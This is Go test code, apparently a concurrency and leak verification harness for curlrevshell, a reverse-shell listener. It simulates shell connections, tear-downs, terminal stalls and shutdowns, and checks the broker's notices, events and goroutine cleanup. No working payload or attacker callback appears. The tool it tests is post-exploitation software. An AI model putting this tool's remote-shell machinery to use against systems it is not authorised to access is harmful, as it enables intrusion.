	if x.M.Slot["input"] != nil || x.M.Slot["output"] != nil {
		s.viol("generation-not-closed", fmt.Sprintf("generation %d: after the ending, the model still has in=%v out=%v", n, x.M.Slot["input"], x.M.Slot["output"]))
		x.Stalled = true
		return
	}
	// every Connect of the generation returns without the transport being closed first
	for _, a := range atts {
		select {
		case <-a.Ret:
		case <-time.After(bk.Bound):
			s.viol("connect-does-not-return", fmt.Sprintf("generation %d: Connect of attempt %d did not return after the shell was torn down", n, a.ID))
			x.Stalled = true
			return
		}
	}
	// marker through the operator channel: every notice of this generation precedes it
	mark := fmt.Sprintf("MARK-%d-%d", s.idx, n)
	from := s.opFrom
	w.Och <- markerLine(mark)
	mev, ok := w.Log.Wait(from, bk.Bound, func(e bk.Event) bool { return e.Kind == "op" && e.S == mark })
	if !ok {
		s.r.Inconclusive("marker line not seen on the operator channel")
		x.Stalled = true
		return
	}
	s.opFrom = mev.Seq + 1
	s.judgeGen(n, g, from, mev.Seq, atts)
	// drain lines the burst left queued for the next shell (C02 judges their fate)
	x.Probe()
	// transports closed: nothing of the ended shell may keep running
	for _, a := range atts {
		a.CloseTransport()
	}
	if s.leak {
		var left []string
		for i := 0; i < 500; i++ {
			left = iobGoroutines()
			if len(left) == 0 {
				break
			}
			runtime.Gosched()
			time.Sleep(time.Duration(i/10+1) * time.Millisecond)
		}
		s.r.Count("leak_scans", 1)
		for _, st := range left {
			s.viol(leakKey(st), fmt.Sprintf("generation %d (%s): after the shell ended, every Connect returned and the transports were closed, a goroutine is still inside the broker:\n%s", n, g, st))
		}
		if len(left) > 0 {
			x.Stalled = true // later scans would see the same goroutine again
		}
	}
}

func markerLine(s string) opshell.CLine { return opshell.CLine{Line: s} }

func (s *series) judgeGen(n int, g Gen, from, to int, atts []*bk.Attempt) {
	evs := s.w.Log.Snapshot()
	var gone, ready, closed, plainAfterGone int
	closedBy := map[string]int{}
	goneSeq := -1
	for _, e := range evs[from:to] {
		if e.Kind != "op" {
			continue
		}
		switch {
		case strings.Contains(e.S, iobroker.ShellDisconnectedMessage):
			gone++
			goneSeq = e.Seq
		case strings.Contains(e.S, iobroker.ShellReadyMessage):
			ready++
		case closedRe.MatchString(e.S) && !e.Plain:
			closed++
			m := closedRe.FindStringSubmatch(e.S)
			closedBy[m[1]]++
			if goneSeq >= 0 {
				s.viol("closure-notice-after-gone", fmt.Sprintf("generation %d: closure notice %q after the shell-is-gone notice", n, e.S))
			}
		case e.Plain && goneSeq >= 0:
			plainAfterGone++
		}
	}
	s.r.Count("generations_judged", 1)
	if gone != 1 {
		s.viol(fmt.Sprintf("gone-notices-%d", gone), fmt.Sprintf("generation %d (%s): %d shell-is-gone notices instead of exactly one", n, g, gone))
	}
	full := g.Attach == "full"
	wantReady := 0
	if full {
		wantReady = 1
	}
	if ready != wantReady {
		s.viol(fmt.Sprintf("ready-notices-%d-want-%d", ready, wantReady), fmt.Sprintf("generation %d (%s): %d ready notices, expected %d", n, g, ready, wantReady))
	}
	nStreams := 1
	if full {
		nStreams = 2
	}
	if !g.Bidir {
		if closed != nStreams || closedBy["Input"] > 1 || closedBy["Output"] > 1 {
			s.viol(fmt.Sprintf("closure-notices-%d-want-%d", closed, nStreams), fmt.Sprintf("generation %d (%s): %d closure notices (%v), expected one per attached direction (%d)", n, g, closed, closedBy, nStreams))
		}
	} else if closedBy["Input"] > 1 || closedBy["Output"] > 1 {
		s.viol("closure-notices-doubled", fmt.Sprintf("generation %d (%s): closure notices %v, expected at most one per direction", n, g, closedBy))
	}
	if plainAfterGone > 0 {
		s.viol("output-after-gone", fmt.Sprintf("generation %d: %d chunks of shell output displayed after the shell-is-gone notice", n, plainAfterGone))
	}
	// slog Disconnected: exactly one per attached stream
	for _, a := range atts {
		for _, d := range a.Dirs() {
			c := 0
			for _, e := range evs {
				if e.Kind == "slog" && e.Att == a.ID && e.Dir == d && e.S == bk.MsgDisconnected {
					c++
				}
			}
			if c != 1 {
				s.viol(fmt.Sprintf("disconnected-records-%d", c), fmt.Sprintf("generation %d: %d Disconnected log records for attempt %d/%s, expected 1", n, c, a.ID, d))
			}
		}
	}
	// events: exactly one disconnected per listener per generation; connected iff fully attached
	s.nDisc++
	if full {
		s.nConn++
	}
	for l := 0; l < s.nLst; l++ {
		want := s.nDisc
		_, ok := s.w.Log.Wait(0, bk.Bound, func(e bk.Event) bool {
			if e.Kind == "ev" && e.N == l && e.S == string(iobroker.EventTypeDisconnected) {
				want--
			}
			return want == 0
		})
		if !ok {
			s.viol("disconnected-event-missing", fmt.Sprintf("generation %d: listener %d did not receive the disconnected event", n, l))
		}
	}
}

// finish checks the event totals and closes the world.
func (s *series) finish() {
	x, w := s.x, s.w
	if !x.Stalled {
		// settle: an extra event would be right behind the expected ones
		for i := 0; i < 50; i++ {
			runtime.Gosched()
		}
		time.Sleep(2 * time.Millisecond)
		for l := 0; l < s.nLst; l++ {
			var d, c int
			for _, e := range w.Log.Snapshot() {
				if e.Kind == "ev" && e.N == l {
					switch e.S {
					case string(iobroker.EventTypeDisconnected):
						d++
					case string(iobroker.EventTypeConnected):
						c++
					}
				}
			}
			if l > 0 {
				// every listener sees the same events in the same order
				var a, b []string
				for _, e := range w.Log.Snapshot() {
					if e.Kind == "ev" && e.N == 0 {
						a = append(a, e.S)
					} else if e.Kind == "ev" && e.N == l {
						b = append(b, e.S)
					}
				}
				if strings.Join(a, ",") != strings.Join(b, ",") && d == s.nDisc && c == s.nConn {
					s.viol("listeners-disagree-on-event-order", fmt.Sprintf("listener %d received %v, listener 0 received %v", l, b, a))
				}
			}
			if d != s.nDisc {
				s.viol(fmt.Sprintf("disconnected-events-%d-want-%d", d-s.nDisc, 0), fmt.Sprintf("listener %d received %d disconnected events for %d generations", l, d, s.nDisc))
			}
			if c != s.nConn {
				s.viol("connected-events-miscount", fmt.Sprintf("listener %d received %d connected events for %d fully attached shells", l, c, s.nConn))
			}
		}
	}
	x.Finish()
	if s.leak && !x.Stalled {
		var left []string
		for i := 0; i < 300; i++ {
			left = iobGoroutines()
			if len(left) == 0 {
				break
			}
			time.Sleep(time.Duration(i/10+1) * time.Millisecond)
		}
		for _, st := range left {
			s.viol(leakKey(st)+":after-shutdown", "after Do returned and every transport was closed a goroutine is still inside the broker:\n"+st)
		}
	}
	s.r.Count("series", 1)
	s.r.Count("generations", int64(len(x.GenClosed)))
	s.r.Count("events_logged", int64(w.Log.Len()))
	s.r.Count("probes", int64(x.ProbesLive+x.ProbesIdle))
	if x.Stalled {
		s.r.Count("stalled_series", 1)
	}
}

func runSeries(r *mon.Run, engine string, idx int, gens []Gen, och int, leak bool) {
	w, err := bk.NewWorld(och, 256)
	if err != nil {
		r.Inconclusive(err.Error())
		return
	}
	s := &series{r: r, engine: engine, idx: idx, w: w, gens: gens, och: och, leak: leak, nLst: 2, ids: r.Rng(engine+"-ids", idx)}
	if idx%2 == 1 {
		// a third listener with room for 1-3 events that looks at them only every few
		// milliseconds: it must still get every event, in order
		w.AddSlowListener(1+idx/2%3, time.Duration(1+idx/6%3)*time.Millisecond)
		s.nLst = 3
		r.Count("series_with_slow_listener", 1)
	}
	s.x = bk.NewExec(w, s.viol)
	s.x.NoAdmissionVerdicts = true
	for n, g := range gens {
		s.runGen(n, g)
		r.Eval(1) // one evaluation per generation (same granularity as Distinct)
		r.Distinct(g.String())
	}
	s.finish()
	if idx < 2 {
		r.Sample(engine, map[string]any{"generations": gens[0].String(), "trace": s.x.Trace})
	}
}

// ChildSerial runs series one after another in this process, with the
// goroutine-leak scan after every generation.
func ChildSerial(args []string) int {
	r, dump, rest := mon.ChildRun(args, Level)
	var part, parts int
	fmt.Sscan(rest[0], &part)
	fmt.Sscan(rest[1], &parts)
	engine := rest[2]
	if engine == "httpserial" {
		// real clients over TLS against the in-process server, one series at a time, so that
		// every goroutine serving a connection belongs to the series' own shells
		n, gensPer := httpSerialCounts(r)
		for i := part; i < n; i += parts {
			if r.Want(engine, i) {
				httpSeries(r, engine, i, gensPer, true)
			}
		}
		if err := r.DumpChild(dump); err != nil {
			fmt.Fprintln(os.Stderr, err)
			return 2
		}
		return 0
	}
	if engine == "longlife" {
		// one broker's whole life per process, alone in it
		for i := part; i < llBrokers(r); i += parts {
			if r.Want(engine, i) {
				longLife(r, i, true)
			}
		}
		if err := r.DumpChild(dump); err != nil {
			fmt.Fprintln(os.Stderr, err)
			return 2
		}
		return 0
	}
	list := seriesList(r, engine)
	for i := part; i < len(list); i += parts {
		if !r.Want(engine, i) {
			continue
		}
		rng := r.Rng(engine+"-cfg", i)
		runSeries(r, engine, i, list[i], []int{0, 1, 1024}[rng.IntN(3)], true)
	}
	if err := r.DumpChild(dump); err != nil {
		fmt.Fprintln(os.Stderr, err)
		return 2
	}
	return 0
}

func seriesList(r *mon.Run, engine string) [][]Gen {
	cp := crossProduct()
	var list [][]Gen
	switch engine {
	case "cross": // every point of the cross product once, in series of 8
		for i := 0; i < len(cp); i += 8 {
			j := i + 8
			if j > len(cp) {
				j = len(cp)
			}
			list = append(list, cp[i:j])
		}
	case "series": // long random series
		n := r.N(30, 400)
		glen := r.N(40, 200)
		for i := 0; i < n; i++ {
			rng := r.Rng("series", i)
			var gs []Gen
			for k := 0; k < glen; k++ {
				gs = append(gs, cp[rng.IntN(len(cp))])
			}
			list = append(list, gs)
		}
	}
	return list
}

func Run(r *mon.Run) {
	r.Rule = "one broker per series; a series is a sequence of shell generations with fresh IDs; each generation is a point of the cross product {uni,bidir} x {full,in-only,out-only} x {idle,input burst,output flood,output flood with the operator's terminal stalled,the same with the stream ending by itself behind a queue that is exactly full} x {which direction ends first} x {ctx cancel, writer error, flush error, reader EOF, reader error, data+error} x {alone, both ending together with either release order}; the gate scheduler drives each release section, a marker line through the operator channel closes each generation's window, then notices/events/log records are counted, the next shell must attach and pass an I/O probe, and (in serial child processes) a goroutine dump is scanned for anything still inside internal/iobroker. every second series has a third event listener with room for 1-3 events that looks at them only every 1-3 ms and must receive the same events in the same order. " +
		"http / httpserial engines: hsrv in-process on real TLS with fake shells over raw connections; per generation {/i+/o, /io} x {full, in-only, out-only} x {idle, output flood, input burst} x {client closes / resets input or output, output ends by itself (last chunk, or the last of the declared bytes), both closed} x output transport class {chunked upload, upload with a declared Content-Length of which 1 B..256 KiB is still outstanding when the shell ends, the same with more than 256 KiB (up to 1 TiB) outstanding}; after the gone notice, the re-printed help and the Disconnected records, every request the client has not dropped itself is watched FROM THE CLIENT SIDE: without the client sending another byte the server must answer it completely or let go of its connection within the progress bound (20 s); httpserial runs the same series one at a time in child processes and, after the client has closed its connections, requires that no net/http per-connection goroutine, shell handler or broker goroutine is left. " +
		"backlog engine: on one broker with two prompt event listeners and a third one that stops reading its channel (capacity EVChanLen, or 1/8/128) from the start or after 1-150 shells, more minimal shells (full /i+/o with either attach order, bidirectional, half attached; ended by output EOF, output error, cancellation of either side) come and go in series than undelivered events fit anywhere (listener channel + broker queue + 1: > 1100 shells for an EVChanLen channel); the shells are driven from their own goroutine; when the driver stops making progress (the broker may wait for the listener) or is through, the listener reads again; then the series must get through, and every listener must have received exactly the events the shells' history dictates (connected iff fully attached, one disconnected per shell), in order, and the operator one ready / one gone notice per shell. " +
		"lockwait engine (shutdown with the broker busy and streams arriving meanwhile): the operator's terminal stalls behind an operator channel (capacity 0/1/2/5) that is exactly full, so that one stream stays inside the broker on the notice it sends in the middle of its admission, refusal or tear-down {refusal for want of an ID, refusal because of what is attached (wrong ID, direction taken, no ID), 'connected' notice of a first or second direction, 'ready' notice of a unidirectional or bidirectional shell, 'gone' notice of the last direction of a fully or half attached dying shell}; while it is in there Do's context is cancelled, and after that 1-3 new streams {in, out, bidirectional} x {the shell's ID, a fresh ID, none} call Connect (their admit points are awaited; a few arrive before the shutdown instead); then the terminal reads again and everything runs off in the order the broker chooses; attached streams are kept open for a while, then everything is ended. Judged on the order of the event log only: Do's return comes after the tear-down point of every stream that got attached, nothing is attached and no I/O happens after it, every attached stream reaches its tear-down once and logs one Disconnected record, at least one and at most one-per-stream gone notices. That holder, shutdown and newcomers really overlapped is read off the log (the holder's notice is displayed as line capacity+2 or later after the stall began and after the resume note, so it had not been handed over when the terminal resumed). " +
		"IDs: one unidirectional generation in eight of the cross / series engines presents an ID of 1 KiB - 64 KiB ('the next shell, with any ID, is accepted'). " +
		"patience engine (the terminal is stalled for a LONG time): in worlds of their own that all run next to the other engines, the operator's terminal stops taking lines behind an operator channel (capacity 0/1/2/8/64/1024) that is full {with exactly as much shell output as fits, with shell output up to the forwarder's hands and the broker's own queue, with lines of the program's other writers}; then a direction ends in one of 20 ways {uni full / in-only / out-only, bidirectional} x {input: ctx cancel, writer error, flush error; output: ctx cancel, EOF, read error; both at once by their own causes; the /io request's context}, the harness sleeps 6 s, 12 s or 31 s (each world about half a minute in all), the terminal reads again, and the generation is judged like a series generation (one closure notice per attached unidirectional direction, then exactly one gone notice, ready notice iff fully attached, one Disconnected record per stream, one disconnected event per listener, every Connect returns without its transport being closed), the next shell (fresh ID) is attached and passes an I/O probe both ways; in two worlds the SECOND direction of a shell attaches while the terminal is stalled and full for 12 s (ready notice exactly once, connected event). " +
		"longlife engine: ONE broker (thorough: one with 120,000 shells and three more with 12,000) serves 12,000 shells in series in a lean counting world, in a child process of its own: fifteen in sixteen bidirectional (more than 11,000, thorough more than 110,000 ConnectInOut calls on one broker), the others unidirectional {full either order, in-only, out-only} with IDs {8-40 B, 1025-1100 B, 1 KiB - 64 KiB}, ended by {output EOF, read error, last chunk + EOF, ctx cancel of either side or of the /io request, writer error}; EVERY shell: attached (both New connection records; a refusal or a Connect that returns instead is the violation), ready notice + connected event at both listeners iff fully attached, every Connect returns after the ending, and when a marker line comes out of the operator channel: exactly one gone notice, closure notices as in the series engines, nothing after the gone notice, one Disconnected record per stream, each listener exactly one disconnected event per shell so far; a sample (first 20, every 500th, bidirectional ordinals 10^k +-3, last 5) also passes an I/O probe both ways and, transports closed, the goroutine scan; at the end Do returns at shutdown and the event totals are exact. " +
		"realcfg engine (the REAL BINARY under its documented configurations; main's wiring, start-up and shutdown order included): curlrevshell (race + verif build of /repo's working tree) runs on a pty, fake shells speak raw HTTP over TLS; CONFIGURATION MATRIX per round (quick 1, thorough 3 rounds with other variants): the default configuration, each of {-ipv6-one-liners, -no-timestamps, -serve-files-from (directory / single file / empty value / ../ spelling / symlink / spaces at the edges), -callback-address (name / with port / dozens / the same twice), -callback-template (regular file / symlink / missing at start-up), -ctrl-i (file / directory / missing / small / names with % or spaces), -log (flag / CURLREVSHELL_LOG / flag twice / flag over environment), -prompt, -tls-certificate-cache (explicit / default / next to the served files)} alone and all 36 pairs, every flag in one of the spellings -f v / -f=v / --f v / --f=v; -icanhazip alone and with one more option (no network: the program does not get as far as listening, counted only); -one-shell alone and with each other option for the shutdown part, alone and with three others for a single-shell series. Per program a SERIES of 4-7 (thorough 4-10) shells {/i+/o, /io} x {full (always the first), in-only, out-only} x {idle, output flood, typed burst} x {client closes / resets input or output, output ends by itself, both closed}, IDs of three shapes, a file request between two shells where files are served; every generation is judged like an httpserial generation, on the terminal text: accepted (connection not refused, ready notice iff fully attached, a typed line reaches it, its output is displayed), after the ending one gone notice, each attached direction's closure notice before it (unidirectional shells), the callback help once, every request the client has not dropped ended by the server without further traffic, with -log one Disconnected record per New connection record; the next shell must be accepted again. Then the SHUTDOWN: a last shell (/i+/o or /io) attaches and passes the probe; in two cases out of three its input stream is made unable to end at once: the client (receive buffer 4 KiB) reads 0-8 typed lines, Tab inserts a 14 MB Ctrl+I source (one write), the client reads the first lines of it and stops reading; the operator presses Ctrl+D or Ctrl+C (alternating by index); the client hangs up 3-8 s later {closes / resets the input connection, closes both}: the process must still be there at that moment, must exit within 30 s after it, and with -log every New connection record must have its Disconnected record before 'Program terminating'; in the third case the shell is idle and its clients just stay connected (exit within 30 s, same log order). " +
		"distinct = distinct generation parameter tuples executed"
	r.Assumptions = []string{"goroutine-leak scans run in child processes that execute one series at a time", "listener events are awaited (bounded) before shutdown; nothing is asserted about events around shutdown",
		"http engines: a request counts as ended when its response has arrived completely or the connection has been closed/reset by the server; a keep-alive connection left idle after a complete response is not held against the server; the 20 s bound on that is a progress bound of the property itself ('without needing further traffic')",
		"backlog engine: a broker that makes a shell wait while a listener does not read is not held against it; the no-progress detector (750 ms) only decides when the paused listener resumes, the verdict is on the complete event sequences afterwards and on the series getting through once every listener reads (no progress for 20 s = violation)",
		"patience engine: the sleeps (6/12/31 s) only create the situation, no verdict depends on them: the notices are looked for when a marker line, sent after every Connect call has returned, comes out of the operator channel (bounded waits of 10 s each after the terminal resumed: a Connect that does not return then is a violation of 'the other direction is ended as well', a marker that does not arrive is inconclusive); that the first notice of the tear-down really waited out the stall is read off the event log (Disconnected record before the resume note, notice displayed after it as line capacity+2 or later since the stall began) and counted, not asserted; ways whose output ends by itself (EOF, error) are only combined with fills that leave the forwarder idle, since a forwarder stuck on the terminal with a chunk in its hands cannot notice the end of its stream before the terminal reads again; 'last chunk + error' is left to the series engines for the same reason",
		"longlife engine: shells come strictly one after the other (the next one starts after the previous one's marker line has been displayed and its transports are closed); operator lines that are none of the known notices are not judged (kept in the witness); a marker line that does not come out of the operator channel within 10 s is inconclusive",
		"realcfg engine: what the program's terminal displays is taken as what the operator sees while the program is running; once the operator has asked it to quit (or, with -one-shell, once its one shell has gone and it winds down) notices still queued for the terminal are not required to be displayed, the shutdown is judged on the process's lifetime and on the JSON log instead (when the configuration has one); two shutdowns in three need a Ctrl+I source of 14 MB, which is added to the configuration when the cell has no -ctrl-i of its own (the cell is then exercised without it at another seed: the choice rotates with index + seed); the stalled stream is certain, not timed: the whole insertion is ONE write of the broker, the client has read its beginning (so the write has begun) and more is outstanding than the socket buffers hold (server send buffer at most 4 MiB, client receive buffer fixed small), so it cannot return before the client hangs up; 'the process is still there when the client hangs up' is the shutdown clause itself (the broker - and the program around it - finishes only after every attached stream has ended), 'exits within 30 s after the hang-up' and the 30 s waits for notices are progress bounds (normally milliseconds); a -one-shell program that is still running 6 s after its shell has gone is counted, not judged; -icanhazip without network is only counted as not started",
		"lockwait engine: which of the waiting parties the broker serves first once the terminal reads again is the broker's choice and is not asserted (a newcomer may be refused or attached); the pauses after the shutdown and after the newcomers' admit points (2-32 ms each) and the time attached streams are kept open (40-160 ms) only make the overlap likely and give a premature return of Do time to show, the verdict never depends on them; a Connect call that neither attaches nor returns within 10 s after the terminal resumed is inconclusive, Do not returning within 10 s after every stream has ended is a violation (progress clause of the shutdown sentence)"}
	cp := crossProduct()
	r.Count("cross_product_points", int64(len(cp)))
	// the engines that need real time (terminal stalls of up to 31 s) or one very long life run next to
	// everything else
	var bg sync.WaitGroup
	if r.WantEngine("patience") {
		bg.Add(1)
		go func() { defer bg.Done(); patienceCases(r) }()
	}
	if r.WantEngine("longlife") {
		bg.Add(1)
		go func() { defer bg.Done(); longLifeCases(r) }()
	}
	if r.WantEngine(realEngine) {
		bg.Add(1)
		go func() { defer bg.Done(); realCfgCases(r); r.Logf("realcfg done") }()
	}
	parts := runtime.NumCPU()
	for _, engine := range []string{"cross", "series", "httpserial"} {
		if !r.WantEngine(engine) {
			continue
		}
		mon.Parallel(parts, parts, func(p int) {
			res, err := r.RunChild("", "c04serial", 30*time.Minute, fmt.Sprint(p), fmt.Sprint(parts), engine)
			if err != nil {
				r.Violate(engine, p, "child-died", fmt.Sprintf("serial child %d died: %v; stderr: %s", p, err, tailS(res.Stderr)), nil)
			}
		})
	}
	r.Logf("serial children done")
	if r.WantEngine("window") {
		windowCases(r)
	}
	if r.WantEngine("lockwait") {
		lockwaitCases(r)
	}
	if r.WantEngine("shutdown") {
		shutdownCases(r)
	}
	if r.WantEngine("http") {
		httpGenerations(r)
	}
	r.Logf("http done")
	if r.WantEngine("backlog") {
		backlogCases(r)
	}
	r.Logf("backlog done")
	if r.WantEngine("httpserial") && !r.Replaying() {
		n, gensPer := httpSerialCounts(r)
		r.Floor("httpserial_leak_scans", int64(n*gensPer*8/10))
	}
	bg.Wait()
	r.Logf("patience / longlife done")
	if !r.Replaying() {
		r.Floor("generations_judged", 200)
		r.Floor("leak_scans", 200)
		r.Floor("shutdown_cases", 20)
	}
	if r.WantEngine("cross") && !r.Replaying() {
		r.Floor("series_with_slow_listener", 5)
		r.Floor("readers_holding_the_stream_end_behind_a_full_queue", 10)
		r.Floor("readers_back_in_read_with_an_exactly_full_queue", 10)
		r.Floor("intruders_in_teardown_window", 20)
		r.Floor("intruders_with_the_dying_shells_id", 8)
		r.Floor("generations_with_id_of_1_to_64_KiB", int64(r.N(40, 2000)))
		r.Floor("generations_with_id_over_16_KiB", int64(r.N(10, 500)))
	}
}

func tailS(b []byte) string {
	if len(b) > 800 {
		b = b[len(b)-800:]
	}
	return string(b)
}

// shutdownCases: Do must not return while a stream is attached, and must
// return once every stream has ended; no I/O after Do returned.
func shutdownCases(r *mon.Run) {
	type sc struct {
		bidir   bool
		attach  string
		parked  string // none: streams live at shutdown; in/out/both: parked at release when shutdown comes
		endHow  string
		outFrst bool
	}
	var cases []sc
	for _, b := range []bool{false, true} {
		for _, at := range []string{"full", "in-only", "out-only"} {
			if b && at != "full" {
				continue
			}
			for _, pk := range []string{"none", "in", "out", "both"} {
				if (at == "in-only" && (pk == "out" || pk == "both")) || (at == "out-only" && (pk == "in" || pk == "both")) {
					continue
				}
				for _, of := range []bool{false, true} {
					cases = append(cases, sc{bidir: b, attach: at, parked: pk, outFrst: of})
				}
			}
		}
	}
	mon.Parallel(len(cases), runtime.NumCPU(), func(i int) {
		if !r.Want("shutdown", i) {
			return
		}
		c := cases[i]
		w, err := bk.NewWorld(1024, 64)
		if err != nil {
			r.Inconclusive(err.Error())
			return
		}
		var x *bk.Exec
		viol := func(key, what string) {
			r.Violate("shutdown", i, key, what, map[string]any{"case": fmt.Sprintf("%+v", c), "trace": x.Trace, "log_tail": w.Log.Tail(40)})
		}
		x = bk.NewExec(w, viol)
		x.NoAdmissionVerdicts = true
		if c.bidir {
			x.Connect("io", "", bk.WFlusher, c.outFrst)
		} else {
			if c.attach != "out-only" {
				x.Connect("in", "s", bk.WFlusher, false)
			}
			if c.attach != "in-only" {
				x.Connect("out", "s", bk.WFlusher, false)
			}
		}
		in, out := x.M.Slot["input"], x.M.Slot["output"]
		switch c.parked {
		case "in":
			x.Hold(in)
			if out != nil {
				x.Hold(out)
			}
			x.End(in, "cancel", "", false)
		case "out":
			x.Hold(out)
			if in != nil {
				x.Hold(in)
			}
			x.End(out, "eof", "", false)
		case "both":
			x.Hold(in)
			x.Hold(out)
			x.End(in, "cancel", "eof", false)
		}
		x.Shutdown()
		// Do must still be waiting
		time.Sleep(5 * time.Millisecond)
		x.CheckDoAlive()
		// now let everything end
		for _, st := range []*bk.Stream{in, out} {
			if st == nil {
				continue
			}
			switch st.State {
			case bk.StLive:
				if st.Held {
					st.Held = false
				}
				how := "cancel"
				x.CheckDoAlive()
				x.End(st, how, "", false)
			case bk.StEnded:
				x.CheckDoAlive()
				x.Unhold(st)
			}
		}
		// closeGen (inside the executor) demanded that Do return; nothing may happen afterwards
		doSeq := -1
		for _, e := range w.Log.Snapshot() {
			if e.Kind == "do-ret" {
				doSeq = e.Seq
			}
			if doSeq >= 0 && (e.Kind == "w" || e.Kind == "r" && e.N > 0) {
				viol("io-after-shutdown", fmt.Sprintf("I/O event %s after Do returned", e))
			}
		}
		if doSeq < 0 && !x.Stalled {
			viol("shutdown-does-not-finish", "Do never returned after every stream ended")
		}
		x.Finish()
		r.Eval(1)
		r.Count("shutdown_cases", 1)
		r.Distinct(fmt.Sprintf("shutdown %+v", c))
		if i == 0 {
			r.Sample("shutdown", map[string]any{"case": fmt.Sprintf("%+v", c), "trace": x.Trace})
		}
	})
}

package c04

import (
	"fmt"
	"io"
	"strings"
	"sync"
	"time"

	"github.com/magisterquis/curlrevshell/internal/iobroker"
	"github.com/magisterquis/curlrevshell/lib/opshell"
	"github.com/magisterquis/curlrevshell/verifharness/mon"
	"github.com/magisterquis/curlrevshell/verifharness/mon/bk"
)

// patienceCases: a shell is torn down (or becomes fully attached) while the
// operator's terminal takes nothing for a LONG time — 6 s, 12 s, 31 s — and
// then reads again.
//
// The other engines stall the terminal for as long as the broker needs to run
// into it (micro- to milliseconds).  A terminal that is stopped by the operator
// (Ctrl+S, a paused tmux pane, a scroll-back in progress) stays stopped for
// seconds to minutes; nothing in the property lets a notice expire meanwhile:
// "the operator sees each direction's closure followed by exactly one 'shell is
// gone' notice".  Here the terminal is stalled behind an operator channel that
// is full (with the shell's own output flood, or with lines of the program's
// other writers), a direction is ended in one of the ways a direction can end,
// the harness sleeps out the stall, the terminal reads again, and the
// generation is judged exactly as in the series engines: one closure notice per
// attached direction (unidirectional), one gone notice after them, ready notice
// iff fully attached, one Disconnected record per stream, one disconnected event
// per listener, every Connect returns without its transport being closed, and
// the next shell (fresh ID) is attached and passes an I/O probe.
//
// The sleep only creates the situation; the verdict is on what the terminal
// has displayed by the time a marker line sent after every Connect returned
// comes out of the operator channel.  That the situation existed is read off
// the log: the direction's Disconnected record precedes the "resume" note and
// the first notice of the tear-down is displayed after it, as line capacity+2
// or later since the stall began (the stalled terminal holds one line, the
// channel its capacity, so that notice had not been handed over when the
// terminal resumed).
//
// All worlds run at the same time (they sleep), next to the other engines.

// patWay is one way a shell's life can end.
type patWay struct {
	Bidir  bool
	Attach string // full in-only out-only
	First  string // in out
	How    string
	Both   string // the peer ends by its own cause at the same time
}

func patienceWays() []patWay {
	return []patWay{
		{false, "full", "in", "cancel", ""},
		{false, "full", "out", "eof", ""},
		{true, "full", "in", "cancel", ""}, // the /io request's context: both halves
		{false, "full", "in", "werr", ""},
		{false, "full", "out", "cancel", ""},
		{true, "full", "out", "eof", ""},
		{false, "in-only", "in", "cancel", ""},
		{false, "full", "out", "err", ""},
		{false, "out-only", "out", "eof", ""},
		{false, "full", "in", "ferr", ""},
		{true, "full", "in", "werr", ""},
		{false, "full", "in", "cancel", "eof"},
		{false, "out-only", "out", "cancel", ""},
		{true, "full", "out", "err", ""},
		{false, "in-only", "in", "werr", ""},
		{false, "full", "out", "cancel", "werr"},
		{true, "full", "in", "ferr", ""},
		{false, "out-only", "out", "err", ""},
		{false, "full", "in", "ferr", "err"},
		{true, "full", "out", "eof", "werr"},
	}
}

// patPlans: the stalls of one world, in seconds, one generation each; a
// negative number is a generation whose SECOND direction attaches during the
// stall (the ready notice has to wait) and which is then ended without a stall.
// Every plan sleeps about half a minute in all.
var patPlans = [][]int{
	{31},
	{12, 12, 6},
	{6, 6, 6, 6, 6},
	{12, -12, 6},
	{31},
	{6, 12, 12},
	{6, 6, -12, 6},
	{12, 6, 12},
}

type patGen struct {
	Way      patWay
	Stall    int  // seconds
	AtAttach bool // the stall is at the attachment of the second direction
	Fill     string
	OutFirst bool
	WK       bk.WriterKind
}

func (g patGen) String() string {
	at := ""
	if g.AtAttach {
		at = " (while the second direction attaches)"
	}
	return fmt.Sprintf("%+v stall=%ds%s fill=%s outfirst=%v writer=%s", g.Way, g.Stall, at, g.Fill, g.OutFirst, g.WK)
}

func patienceCases(r *mon.Run) {
	n := r.N(len(patPlans), 5*len(patPlans))
	ways := patienceWays()
	off := r.Rng("patience-deal", 0).IntN(len(ways))
	// the tear-down ways are dealt to the stalled tear-downs in order, so that a handful of worlds
	// visits every way once
	first := make([]int, n+1)
	for i := 0; i < n; i++ {
		k := 0
		for _, s := range patPlans[i%len(patPlans)] {
			if s > 0 {
				k++
			}
		}
		first[i+1] = first[i] + k
	}
	var wmu sync.Mutex
	seen := map[patWay]bool{}
	markWay := func(wy patWay) {
		wmu.Lock()
		defer wmu.Unlock()
		if !seen[wy] {
			seen[wy] = true
			r.Count("patience_distinct_teardown_ways", 1)
		}
		r.Count(fmt.Sprintf("patience_way:%+v", wy), 1)
	}
	mon.Parallel(n, n, func(i int) {
		if !r.Want("patience", i) {
			return
		}
		rng := r.Rng("patience", i)
		och := []int{0, 1, 2, 8, 64, 1024}[rng.IntN(6)]
		var gens []patGen
		k := first[i]
		for _, s := range patPlans[i%len(patPlans)] {
			g := patGen{Stall: s, OutFirst: rng.IntN(2) == 1, WK: bk.WriterKind(rng.IntN(4))}
			if s < 0 {
				g.Stall, g.AtAttach = -s, true
				g.Way = patWay{Bidir: false, Attach: "full", First: []string{"in", "out"}[rng.IntN(2)], How: "cancel"}
				g.Fill = "filler"
			} else {
				g.Way = ways[(off+k)%len(ways)]
				k++
				// what fills the operator channel
				outEnds := ""
				if g.Way.First == "out" {
					outEnds = g.Way.How
				} else if g.Way.Both != "" {
					outEnds = g.Way.Both
				}
				fills := []string{"filler"}
				if g.Way.Attach != "in-only" {
					fills = append(fills, "flood-exact", "flood-exact")
					if outEnds == "" || outEnds == "cancel" {
						// the forwarder itself is stuck on the terminal with a chunk in its hands: only a
						// cancellation reaches it, the end of its stream would not be noticed before the
						// terminal reads again
						fills = append(fills, "flood-over", "flood-over")
					}
				}
				g.Fill = fills[rng.IntN(len(fills))]
			}
			if g.Way.How == "ferr" {
				g.WK = bk.WFlushError
			}
			gens = append(gens, g)
		}
		runPatience(r, i, och, gens, markWay)
	})
	if !r.Replaying() {
		r.Floor("patience_worlds", int64(n))
		tear, att := 0, 0
		for i := 0; i < n; i++ {
			for _, s := range patPlans[i%len(patPlans)] {
				if s > 0 {
					tear++
				} else {
					att++
				}
			}
		}
		// the situation must really have existed in (nearly) every case
		r.Floor("patience_teardowns_whose_first_notice_waited_out_the_stall", int64(tear*9/10))
		r.Floor("patience_attachments_whose_notices_waited_out_the_stall", int64(att*3/4))
		r.Floor("patience_next_shell_accepted_after_stalled_teardown", int64(tear*9/10))
		for _, s := range []int{6, 12, 31} {
